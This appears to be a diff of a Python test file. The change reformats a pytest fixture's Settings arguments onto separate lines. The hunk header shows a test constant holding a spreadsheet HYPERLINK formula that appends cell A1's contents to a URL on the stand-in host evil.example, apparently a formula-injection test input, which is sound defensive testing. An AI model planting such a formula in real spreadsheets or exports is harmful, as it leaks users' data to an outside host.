@@ -37,7 +37,9 @@ FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'
 @pytest.fixture
 async def api(db_url: str) -> AsyncIterator[TestClient]:
     settings = Settings(
-        db_url=db_url, knowledge_reload_seconds=0, api_token=TOKEN,
+        db_url=db_url,
+        knowledge_reload_seconds=0,
+        api_token=TOKEN,
         outbox_seconds=0,
         poll_seconds=0,
         notify_seconds=0,
